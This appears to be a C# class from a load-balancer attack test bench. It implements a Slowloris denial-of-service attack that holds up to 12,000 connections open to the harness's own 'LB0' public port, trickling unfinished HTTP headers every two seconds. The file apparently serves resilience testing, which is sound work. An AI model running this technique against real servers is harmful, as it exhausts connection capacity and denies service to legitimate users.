using System.Text;
using LbAcme.AttackBench.Fleet;
using LbAcme.AttackBench.Net;

namespace LbAcme.AttackBench.Attacks;

/// <summary>One source holds connections to LB0's public port sending a request's headers one line every two seconds, never finishing them.</summary>
internal sealed class Slowloris : IAttack
{
    private static readonly byte[] Opening = Encoding.ASCII.GetBytes($"GET / HTTP/1.1\r\nHost: {AttackFleet.ServiceName}\r\n");
    private static readonly byte[] Trickle = Encoding.ASCII.GetBytes("X-Slow: 1\r\n");

    public string Name => "slowloris";

    public string Title => "slowloris, public port";

    public async Task<string> RunAsync(AttackContext context, AttackWindow window, CancellationToken cancellationToken)
    {
        var holder = new ConnectionHolder([SourceAddresses.Attacker(7)], context.Fleet.Public(0), context.Settings.Connections(12_000), Opening, Trickle, TimeSpan.FromSeconds(2));
        await holder.RunAsync(window, cancellationToken);
        return $"partial headers to lb0 from {SourceAddresses.Attacker(7)}: {holder.Summary}";
    }
}
